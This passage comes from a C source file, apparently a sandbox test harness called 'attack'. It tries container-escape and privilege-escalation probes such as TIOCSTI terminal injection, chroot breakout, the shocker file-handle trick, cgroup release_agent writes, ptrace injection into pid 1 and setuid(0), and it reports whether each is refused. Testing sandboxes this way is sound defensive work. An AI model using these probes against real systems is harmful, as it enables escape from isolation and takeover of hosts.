    unsigned long req = TIOCSTI | (hi ? 0xdead00000000ul : 0);
    long r = 0;
    for (const char *c = text; *c && r == 0; c++)
        r = neg(syscall(SYS_ioctl, (long)fd, req, c));
    report(hi ? "tiocsti-hi" : "tiocsti", r);
    return 0;
}

/* tiocsctty [FD [steal]]: make the terminal on FD our controlling terminal (then TIOCSTI would
 * work on it); "steal" takes it from another session, which needs CAP_SYS_ADMIN. */
static int a_tiocsctty(int argc, char **argv)
{
    int fd = argc > 1 ? atoi(argv[1]) : 0;
    long steal = argc > 2 && !strcmp(argv[2], "steal");
    report("tiocsctty", neg(ioctl(fd, TIOCSCTTY, steal)));
    return 0;
}

static int a_tiocsti(int argc, char **argv)
{
    return tiocsti(argc, argv, false);
}

static int a_tiocsti_hi(int argc, char **argv)
{
    return tiocsti(argc, argv, true);
}

/* ---------------------------------------------------------------- privileges */

/* caps: the capability sets, ids and no_new_privs from /proc/self/status ("CapEff: 00..") */
static int a_caps(int argc, char **argv)
{
    FILE *f = fopen("/proc/self/status", "re");
    if (!f)
        return report("status", -errno), 2;
    char line[512];
    while (fgets(line, sizeof(line), f))
        if (!strncmp(line, "Cap", 3) || !strncmp(line, "Uid:", 4) || !strncmp(line, "Gid:", 4) ||
            !strncmp(line, "NoNewPrivs:", 11) || !strncmp(line, "Seccomp:", 8))
            fputs(line, stdout);
    fclose(f);
    uid_t r, e, s;
    getresuid(&r, &e, &s);
    printf("uids: %u %u %u\n", (unsigned)r, (unsigned)e, (unsigned)s);
    fflush(stdout);
    return 0;
}

/* setuid0: become root again (a setuid-root binary under no_new_privs must not allow it) */
static int a_setuid0(int argc, char **argv)
{
    report("setuid0", neg(syscall(SYS_setuid, 0L)));
    return 0;
}

static int a_raw_socket(int argc, char **argv)
{
    long fd = neg(socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP));
    report("raw-socket", fd);
    close_if(fd);
    fd = neg(socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, ETH_P_ALL_BE));
    report("packet-socket", fd);
    close_if(fd);
    return 0;
}

/* ---------------------------------------------------------------- rarely used, refused */

static int a_userfaultfd(int argc, char **argv)
{
    long fd = neg(syscall(SYS_userfaultfd, (long)O_CLOEXEC));
    report("userfaultfd", fd);
    close_if(fd);
    return 0;
}

static int a_io_uring(int argc, char **argv)
{
    char params[120]; /* struct io_uring_params, zeroed */
    memset(params, 0, sizeof(params));
    long fd = neg(syscall(SYS_io_uring_setup, 1L, params));
    report("io_uring_setup", fd);
    close_if(fd);
    return 0;
}

/* ADDR_NO_RANDOMIZE: turns off ASLR for what this process executes. */
static int a_personality(int argc, char **argv)
{
    long r = neg(syscall(SYS_personality, 0x0040000L));
    report("personality", r);
    if (r >= 0)
        syscall(SYS_personality, r);
    return 0;
}

/* ---------------------------------------------------------------- plumbing */

static int a_getpid(int argc, char **argv)
{
    report("getpid", neg(syscall(SYS_getpid)));
    return 0;
}

static int a_nop(int argc, char **argv)
{
    report("nop", 0);
    return 0;
}

static int a_help(int argc, char **argv);

static const struct {
    const char *name;
    int (*fn)(int argc, char **argv);
    const char *args, *help;
} cmds[] = {
    {"mount", a_mount, "[TARGET]", "mount a tmpfs (default on /tmp)"},
    {"umount2", a_umount2, "[TARGET]", "detach a mount (default /proc/sys)"},
    {"pivot_root", a_pivot_root, "", "pivot_root(\".\", \".\") in /"},
    {"fsopen", a_fsopen, "[FSTYPE]", "new mount API: a filesystem context"},
    {"fsconfig", a_fsconfig, "", "fsconfig on a context (CVE-2022-0185)"},
    {"open_tree", a_open_tree, "", "clone the root's mount tree"},
    {"move_mount", a_move_mount, "", "move the /proc/kcore mask"},
    {"mount_setattr", a_mount_setattr, "[PATH]", "clear read-only (default /proc/sys)"},
    {"chroot-escape", a_chroot_escape, "", "chroot + \"..\" breakout"},
    {"unshare", a_unshare, "[NS[+NS]...]", "default user; mnt net pid ipc uts cgroup time"},
    {"clone-newuser", a_clone_newuser, "", "clone(CLONE_NEWUSER)"},
    {"clone3-newuser", a_clone3_newuser, "", "clone3(CLONE_NEWUSER)"},
    {"setns", a_setns, "[NSFILE]", "default /proc/1/ns/mnt"},
    {"keyctl", a_keyctl, "", "the session keyring's id"},
    {"add_key", a_add_key, "", "a user key in the process keyring"},
    {"request_key", a_request_key, "", "a key that does not exist"},
    {"bpf", a_bpf, "", "load a socket filter, create a map"},
    {"perf_event_open", a_perf_event_open, "[self|system]", "this process, or all of cpu 0"},
    {"kexec_load", a_kexec_load, "", "kexec_load and kexec_file_load"},
    {"init_module", a_init_module, "", "init_module, finit_module, delete_module"},
    {"reboot", a_reboot, "", "reboot(CAD_ON)"},
    {"swapon", a_swapon, "", "swapon and swapoff"},
    {"settime", a_settime, "", "settimeofday, clock_settime, clock_adjtime"},
    {"open_by_handle_at", a_open_by_handle_at, "[MOUNT]",
     "shocker: the handle of inode 2, guessed"},
    {"name_to_handle_at", a_name_to_handle_at, "[PATH]", "a file handle (default of /)"},
    {"ptrace", a_ptrace, "[child|init]", "PTRACE_ATTACH a child or PTRACE_SEIZE pid 1"},
    {"ptrace-inject-init", a_ptrace_inject_init, "", "run keyctl as pid 1 (outside seccomp)"},
    {"process_vm_writev", a_process_vm_writev, "[child|init]", "write into another process"},
    {"i386", a_i386, "", "getpid through int 0x80"},
    {"x32", a_x32, "", "getpid through the x32 ABI"},
    {"open", a_open, "PATH [r|w|rw|path|dir|create]", "open, never write"},
    {"read", a_read, "PATH", "read all, print the byte count"},
    {"write-same", a_write_same, "PATH", "write back the file's own content"},
    {"mkdir", a_mkdir, "[PATH]", "the mkdir syscall"},
    {"mkdirat", a_mkdirat, "[PATH]", "the mkdirat syscall"},
    {"mknod-open", a_mknod_open, "PATH b|c MAJ MIN", "make a node, open and read it"},
    {"swap-loop", a_swap_loop, "DIR", "swap DIR/a and DIR/l (-> /) until DIR/stop"},
    {"cgroup-mount", a_cgroup_mount, "[userns]", "mount cgroupfs, write release_agent"},
    {"fds", a_fds, "", "open fds, their targets, the cwd"},
    {"dirfd-scan", a_dirfd_scan, "", "directory fds of every visible process"},
    {"ls", a_ls, "DIR", "the entries of a directory"},
    {"readlink", a_readlink, "PATH", "a link's target"},
    {"tiocsti", a_tiocsti, "[FD [TEXT]]", "inject TEXT into a terminal"},
    {"tiocsti-hi", a_tiocsti_hi, "[FD [TEXT]]", "the same, high bits in the request"},
    {"tiocsctty", a_tiocsctty, "[FD [steal]]", "take the terminal on FD as controlling tty"},
    {"caps", a_caps, "", "capability sets, ids, NoNewPrivs, Seccomp"},
    {"setuid0", a_setuid0, "", "setuid(0)"},
    {"raw-socket", a_raw_socket, "", "AF_INET SOCK_RAW and AF_PACKET"},
    {"userfaultfd", a_userfaultfd, "", "userfaultfd()"},
    {"io_uring", a_io_uring, "", "io_uring_setup"},
    {"personality", a_personality, "", "ADDR_NO_RANDOMIZE"},
    {"getpid", a_getpid, "", "the getpid syscall"},
    {"nop", a_nop, "", "prints nop: OK"},
    {"help", a_help, "", "this list"},
};

static int a_help(int argc, char **argv)
{
    printf("usage: attack NAME [ARGS...]\n");
    for (size_t i = 0; i < sizeof(cmds) / sizeof(cmds[0]); i++) {
        char head[64];
        snprintf(head, sizeof(head), "%s %s", cmds[i].name, cmds[i].args);
        printf("  %-36s %s\n", head, cmds[i].help);
    }
    return 0;
}

static bool on_host(void)
{
    struct stat st;
    return stat("/proc/self/ns/pid", &st) == 0 && st.st_ino == PROC_PID_INIT_INO &&
           !getenv("ATTACK_ON_HOST");
}

int main(int argc, char **argv)
{
    if (argc < 2)
        return a_help(argc, argv), 2;
    for (size_t i = 0; i < sizeof(cmds) / sizeof(cmds[0]); i++) {
        if (strcmp(argv[1], cmds[i].name) != 0)
            continue;
        if (cmds[i].fn != a_help && on_host()) {
            fprintf(stderr, "attack: refusing to run in the host's pid namespace "
                            "(ATTACK_ON_HOST=1 overrides)\n");
            return 2;
        }
        int r = cmds[i].fn(argc - 1, argv + 1);
        fflush(stdout);
        return r ? r : failed;
    }
    fprintf(stderr, "attack: unknown command %s (attack help)\n", argv[1]);
    return 2;
}
